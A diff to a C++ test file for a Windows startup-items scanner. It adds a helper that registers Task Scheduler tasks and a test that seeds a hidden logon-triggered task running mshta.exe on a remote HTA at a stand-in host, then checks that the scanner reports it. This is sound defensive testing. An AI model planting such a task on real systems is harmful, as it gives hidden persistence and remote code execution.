@@ -2,14 +2,15 @@
 // value to an unsigned program in the roaming data, a redirecting hosts line
 // beside blocking ones, a proxy towards this machine, a user's Winlogon
 // shell, a debugger on notepad.exe, a shortcut in the Startup folder, a
-// browser shortcut with an address and a service whose program is in Temp;
-// scanned, reported and removed.
+// browser shortcut with an address, a service whose program is in Temp and a
+// hidden scheduled task; scanned, reported and removed.
 
 #include <gtest/gtest.h>
 
 #include <windows.h>
 
 #include <shlobj.h>
+#include <taskschd.h>
 
 #include <cstring>
 #include <fstream>
@@ -190,6 +191,45 @@ private:
     platform::win32::UniqueServiceHandle m_service;
 };
 
+// A task of the Task Scheduler's root folder for as long as the object lives,
+// registered from its XML as the scheduler's own tools do.
+class TestTask {
+public:
+    TestTask(const char* name, const std::string& xml) : m_name(name) {
+        VARIANT none;
+        ::VariantInit(&none);
+        const platform::win32::UniqueBstr root("\\");
+        const platform::win32::UniqueBstr taskName(name);
+        const platform::win32::UniqueBstr definition(xml);
+        platform::win32::ComPtr<ITaskService> service;
+        platform::win32::ComPtr<IRegisteredTask> task;
+        m_created = m_com.Usable() &&
+                    SUCCEEDED(::CoCreateInstance(CLSID_TaskScheduler, nullptr, CLSCTX_INPROC_SERVER,
+                                                 IID_ITaskService, service.PutVoid())) &&
+                    SUCCEEDED(service->Connect(none, none, none, none)) &&
+                    SUCCEEDED(service->GetFolder(root.Get(), m_folder.Put())) &&
+                    SUCCEEDED(m_folder->RegisterTask(
+                        taskName.Get(), definition.Get(), TASK_CREATE_OR_UPDATE, none, none,
+                        TASK_LOGON_INTERACTIVE_TOKEN, none, task.Put()));
+    }
+    ~TestTask() {
+        if (m_created) {
+            const platform::win32::UniqueBstr taskName(m_name);
+            m_folder->DeleteTask(taskName.Get(), 0);
+        }
+    }
+    TestTask(const TestTask&) = delete;
+    TestTask& operator=(const TestTask&) = delete;
+
+    [[nodiscard]] bool Created() const noexcept { return m_created; }
+
+private:
+    platform::win32::ComScope m_com;
+    platform::win32::ComPtr<ITaskFolder> m_folder;
+    std::string m_name;
+    bool m_created = false;
+};
+
 std::string FileText(const std::string& path) {
     std::ifstream in(path, std::ios::binary);
     std::ostringstream text;
@@ -276,6 +316,17 @@ TEST_F(StartupItemsWin32, SeededEntriesAreFoundReportedAndTheRemovableOnesRemove
     const TestService service("StartupItemsWin32Svc", "\"" + serviceImage + "\" -run");
     ASSERT_TRUE(service.Created());
 
+    const TestTask task(
+        "StartupItemsWin32Task",
+        "<?xml version=\"1.0\"?>\n"
+        "<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\n"
+        "  <Settings><Hidden>true</Hidden></Settings>\n"
+        "  <Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger></Triggers>\n"
+        "  <Actions><Exec><Command>mshta.exe</Command>"
+        "<Arguments>http://x.example/a.hta</Arguments></Exec></Actions>\n"
+        "</Task>\n");
+    ASSERT_TRUE(task.Created());
+
     startup_items::ScanStartupItems(app);
 
     EXPECT_TRUE(HasFinding(std::string("Run ") + kValueName +
@@ -288,6 +339,14 @@ TEST_F(StartupItemsWin32, SeededEntriesAreFoundReportedAndTheRemovableOnesRemove
     EXPECT_TRUE(HasFinding("IFEO Debugger notepad.exe: Starts another program in place"));
     EXPECT_TRUE(HasFinding("Startup folder StartupItemsWin32Test: Starts a program that is not"));
     EXPECT_TRUE(HasFinding("Service StartupItemsWin32Svc: Starts a program that is not"));
+    // Wine's Task Scheduler lists the task and says it is hidden, but gives
+    // neither its actions nor its triggers through its interface (nor in the
+    // definition's XML it writes back): what a task starts is judged on the
+    // fakes.
+    EXPECT_NE(startup_items::StartupReportSection(app).find(
+                  "Task | " + SystemFolder() + "\\Tasks\\StartupItemsWin32Task (hidden) |"),
+              std::string::npos)
+        << startup_items::StartupReportSection(app);
     EXPECT_TRUE(
         HasFinding("Browser shortcut StartupItemsWin32Test Chrome: Makes the browser open"));
     // The system's own entries that the prefix has are judged clean.
